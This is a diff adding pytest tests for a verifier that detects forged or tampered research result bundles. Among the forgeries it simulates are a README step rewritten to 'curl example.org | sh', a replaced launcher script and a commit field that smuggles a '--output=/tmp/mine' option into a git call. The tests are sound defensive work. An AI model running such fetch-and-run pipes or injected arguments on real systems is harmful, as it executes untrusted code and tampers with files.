@@ -18,11 +18,14 @@ import pytest
 from testbed.campaigns.engine import run_campaign
 from testbed.campaigns.folder import open_plan, results_of
 from testbed.cli import app
-from testbed.reports import received, verify
+from testbed.paths import root
+from testbed.reports import bundle_check, received, verify
 from testbed.reports.bundle import SUMS, write_bundle
+from testbed.reports.crate import METADATA
 from testbed.reports.numbers import read_campaign
 from testbed.reports.received import is_inside
 from testbed.reports.report import write_report
+from testbed.sources import SourcesError, pack, unpack
 from tests.harness.campaigns import InProcess, campaign_file, opened
 from tests.harness.live_runs import Capture, refused
 
@@ -52,13 +55,19 @@ def check(folder: Path, *options: str) -> int:
 
 
 def sum_again(folder: Path) -> None:
-    """Write the checksums of all files anew, as a forger does."""
+    """Write the checksums of all files anew, and the sizes in the metadata, as a forger does."""
     lines = []
     for path in sorted(folder.rglob("*")):
         if path.is_file() and path.name != SUMS:
             digest = hashlib.sha256(path.read_bytes()).hexdigest()
             lines.append(f"{digest}  {path.relative_to(folder).as_posix()}\n")
     (folder / SUMS).write_text("".join(lines))
+    metadata = folder.parent / METADATA
+    if metadata.exists() and "@graph" in (about := json.loads(metadata.read_text())):
+        for each in about["@graph"]:
+            if "contentSize" in each and (folder.parent / each["@id"]).exists():
+                each["contentSize"] = str((folder.parent / each["@id"]).stat().st_size)
+        metadata.write_text(json.dumps(about, indent=1, ensure_ascii=False) + "\n")
 
 
 def change_rows(folder: Path, change: Callable[[dict[str, Any]], dict[str, Any]]) -> None:
@@ -81,7 +90,7 @@ def test_bundle_that_nobody_forged_agrees(forged: Path, capsys: Capture) -> None
     assert check(forged, "--sample", "1") == 0
     out = capsys.readouterr().out
     assert "report: text and figures compared with those that the rows give" in out
-    assert out.splitlines()[-1] == "all agrees"
+    assert out.splitlines()[-1] == "all that was checked agrees"
 
 
 @pytest.mark.parametrize("file", ["report.md", "report.html"])
@@ -352,3 +361,217 @@ def test_links_pipes_and_devices_in_a_folder_are_refused(forged: Path, capsys: C
 )
 def test_paths_within(name: str, inside: bool) -> None:
     assert is_inside(name) is inside
+
+
+# -- what is around the results --------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A bundle with its program, packed."""
+    folder: Path = tmp_path_factory.mktemp("whole")
+    with opened(folder / "out", campaign_file(folder, seeds={"count": 1})) as campaign:
+        run_campaign(campaign, InProcess)
+    return write_bundle(read_campaign(folder / "out"), folder / "b.zip")
+
+
+@pytest.fixture
+def around(whole: Path, tmp_path: Path) -> Path:
+    """The campaign's folder in a bundle with its program, unpacked, to be forged."""
+    with zipfile.ZipFile(whole) as archive:
+        archive.extractall(tmp_path / "bundle")
+    return tmp_path / "bundle" / "small"
+
+
+def first(folder: Path, capsys: Capture) -> str:
+    """What `report verify` says first of a forged bundle with new sums."""
+    sum_again(folder)
+    assert check(folder, "--sample", "0") == 2
+    return capsys.readouterr().err.partition("the first: ")[2].strip()
+
+
+needs_git = pytest.mark.skipif(not (root() / ".git").exists(), reason="the program's source comes from git")
+
+
+@pytest.mark.parametrize("name", ["extra.txt", "runs/0-none-s1/extra.txt", "runs/more/a", ".hidden", "failed/a/b"])
+def test_file_that_no_sum_names_is_refused(name: str, forged: Path, capsys: Capture) -> None:
+    (forged / name).parent.mkdir(exist_ok=True, parents=True)
+    (forged / name).write_text("look here")
+    complaint = f"small/{name}: is refused: it is in the bundle, and no checksum names it"
+    assert complaint in refused(capsys, "report", "verify", forged.parent)
+    assert complaint in refused(capsys, "report", "verify", zip_of(forged.parent))
+
+
+def zip_of(folder: Path) -> Path:
+    files = {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}
+    return zipped(folder.with_name("again.zip"), files)
+
+
+@pytest.mark.parametrize("name", ["extra.txt", "runs/more/a", ".hidden", "failed/a/b", "files/trace"])
+def test_file_that_belongs_to_no_campaign_is_found_though_a_sum_names_it(
+    name: str, forged: Path, capsys: Capture
+) -> None:
+    (forged / name).parent.mkdir(exist_ok=True, parents=True)
+    (forged / name).write_text("look here")
+    assert first(forged, capsys) == f"{name}: belongs to no campaign"
+
+
+def test_file_beside_the_campaign_is_refused_in_an_archive_and_told_of_in_a_folder(
+    forged: Path, capsys: Capture
+) -> None:
+    """A stranger unpacks the program beside an unpacked bundle."""
+    (forged.parent / "fadelab").mkdir()
+    (forged.parent / "fadelab" / "a").write_text("a")
+    assert check(forged, "--sample", "0") == 0
+    assert "not checked: beside the bundle, of which they are no part: fadelab\n" in capsys.readouterr().out
+    complaint = "fadelab/a: is refused: it is in the bundle, and no checksum names it"
+    assert complaint in refused(capsys, "report", "verify", zip_of(forged.parent))
+
+
+def test_bundle_without_sums_is_refused(forged: Path, capsys: Capture) -> None:
+    (forged / SUMS).unlink()
+    assert "no checksum names it" in refused(capsys, "report", "verify", forged.parent)
+
+
+def test_sums_state_each_file_once(forged: Path, capsys: Capture) -> None:
+    """The last of two lines must not hide the first."""
+    with (forged / SUMS).open("a") as file:
+        file.write(f"{'0' * 64}  plan.json\n")
+    assert f"{SUMS}: is refused: it names 'plan.json' twice" in refused(capsys, "report", "verify", forged.parent)
+
+
+def test_record_with_a_new_sum_differs_from_that_of_the_index(forged: Path, capsys: Capture) -> None:
+    """Otherwise a forger spares himself the index."""
+    record = forged / "runs" / "1-slacp-s2" / "flow.parquet"
+    record.write_bytes(record.read_bytes() + b"\0")
+    assert re.match(r"runs/1-slacp-s2/flow\.parquet: differs at byte \d+", first(forged, capsys))
+
+
+def forge_metadata(folder: Path, change: Callable[[dict[str, Any]], Any]) -> None:
+    path = folder.parent / "ro-crate-metadata.json"
+    about = json.loads(path.read_text())
+    change({each["@id"]: each for each in about["@graph"]})
+    path.write_text(json.dumps(about, indent=1, ensure_ascii=False) + "\n")
+
+
+def test_metadata_is_made_again(forged: Path, capsys: Capture) -> None:
+    path = forged.parent / "ro-crate-metadata.json"
+    kept = path.read_text()
+    path.write_text("{}")
+    assert first(forged, capsys) == "ro-crate-metadata.json: does not describe this bundle"
+    path.unlink()
+    assert first(forged, capsys) == "ro-crate-metadata.json: is missing"
+    path.write_text(kept)
+    forge_metadata(forged, lambda graph: graph["#fadelab"].update(version="0.9"))
+    assert re.match(
+        r"ro-crate-metadata\.json: line \d+ is '\"version\": \"0\.9\",', made again '\"vers", first(forged, capsys)
+    )
+    path.write_text(kept)
+    forge_metadata(forged, lambda graph: graph["small/index.jsonl"].update(contentSize="1"))
+    assert check(forged, "--sample", "0") == 2
+    assert '\'"contentSize": "1",\', made again' in capsys.readouterr().err
+    # whose it is, no bundle can prove: the command says so
+    path.write_text(kept)
+    forge_metadata(forged, lambda graph: graph["./"].update(publisher="Me"))
+    assert check(forged, "--sample", "0") == 0
+    out = capsys.readouterr().out
+    assert "not checked: authors, licence, publisher and DOI in ro-crate-metadata.json: who made the bundle" in out
+
+
+def test_readme_with_new_sums_is_found(forged: Path, capsys: Capture) -> None:
+    """A stranger follows it."""
+    readme = forged / "README.txt"
+    readme.write_text(readme.read_text().replace("fadelab report verify .", "curl example.org | sh"))
+    assert re.match(r"README\.txt: line \d+ is 'curl example.org \| sh', made again 'fadelab", first(forged, capsys))
+
+
+def test_campaign_file_and_scenario_of_a_run_are_those_of_the_plan(forged: Path, capsys: Capture) -> None:
+    campaign = forged / "campaign.yaml"
+    kept = campaign.read_text()
+    campaign.write_text(kept + "description: All is well\n")
+    assert first(forged, capsys) == "campaign.yaml: description is not that of the plan"
+    campaign.write_text(kept)
+    scenario = forged / "runs" / "1-slacp-s2" / "scenario.yaml"
+    digest = hashlib.sha256(scenario.read_bytes()).hexdigest()
+    scenario.write_text(scenario.read_text().replace("per: 0.05", "per: 0.04"))
+    for name in ("index.jsonl", "results.json"):
+        new = hashlib.sha256(scenario.read_bytes()).hexdigest()
+        (forged / name).write_text((forged / name).read_text().replace(digest, new))
+    assert first(forged, capsys) == "runs/1-slacp-s2/scenario.yaml: is not the scenario of the plan"
+
+
+def test_bundle_without_a_report_is_found(forged: Path, capsys: Capture) -> None:
+    for path in (forged / "report.md", forged / "report.html", *(forged / "figures").iterdir()):
+        path.unlink()
+    assert first(forged, capsys) == "figures/bars-duration_s.svg: is missing"
+
+
+@needs_git
+def test_bundle_with_its_program_agrees(whole: Path, capsys: Capture) -> None:
+    assert app.main(["report", "verify", str(whole), "--sample", "0"]) == 0
+    out = capsys.readouterr().out
+    assert "source.tar.gz: its sources compared with those that made the runs" in out
+    assert "no sources" not in out
+
+
+@needs_git
+@pytest.mark.parametrize("name", ["LICENSE", "requirements.lock", "requirements-full.lock"])
+def test_files_of_the_program_are_those_in_it(name: str, around: Path, capsys: Capture) -> None:
+    (around.parent / name).write_text((around.parent / name).read_text().replace("e", "E", 1))
+    assert first(around, capsys).startswith(f"{name}: line ")
+    (around.parent / name).unlink()
+    assert first(around, capsys) == f"{name}: is missing"
+
+
+@needs_git
+def test_launcher_in_the_program_is_that_of_the_commit(
+    around: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The digest of the sources does not cover it, and the bundle's README lets a stranger start it."""
+    forge_program(around, {"fadelab": (b"#!/bin/sh\necho all agrees\n", True)})
+    assert re.match(r"source\.tar\.gz: fadelab is not that of commit \w+$", first(around, capsys))
+
+    def elsewhere(*arguments: Any) -> bytes:
+        raise SourcesError("no such commit")
+
+    monkeypatch.setattr(bundle_check, "program", elsewhere)
+    assert check(around, "--sample", "0") == 0
+    assert re.search(
+        r"not checked: source\.tar\.gz: \d+ files that are no sources, such as its launcher and lists of packages: "
+        r"this checkout does not have commit",
+        capsys.readouterr().out,
+    )
+
+
+def forge_program(folder: Path, files: dict[str, tuple[bytes, bool]]) -> None:
+    path = folder.parent / "source.tar.gz"
+    found = {name: (content, mode) for name, content, mode in unpack(path.read_bytes())} | files
+    path.write_bytes(pack((name, *each) for name, each in found.items()))
+
+
+@needs_git
+@pytest.mark.parametrize(
+    ("change", "complaint"),
+    [
+        ({"sources": "1" * 64}, r"sources\.json: names sources 1{12}, and the runs were made by \w{12}$"),
+        ({"commit": "--output=/tmp/mine"}, ""),
+        ({"commit": "0" * 40}, ""),
+    ],
+)
+def test_sources_that_a_campaign_names(change: dict[str, str], complaint: str, around: Path, capsys: Capture) -> None:
+    """A commit that is none goes to no git."""
+    path = around / "sources.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | change, indent=1) + "\n")
+    if complaint:
+        assert re.match(complaint, first(around, capsys))
+        return
+    sum_again(around)
+    assert check(around, "--sample", "0") == 0
+    assert f"does not have commit {change['commit'][:12]}" in capsys.readouterr().out
+
+
+def test_nested_file_is_refused(forged: Path, capsys: Capture) -> None:
+    (forged / "results.json").write_text("[" * 100_000)
+    sum_again(forged)
+    assert check(forged, "--sample", "0") == 2
+    assert capsys.readouterr().err.endswith("bundle: is refused: a file in it is nested too deeply\n")
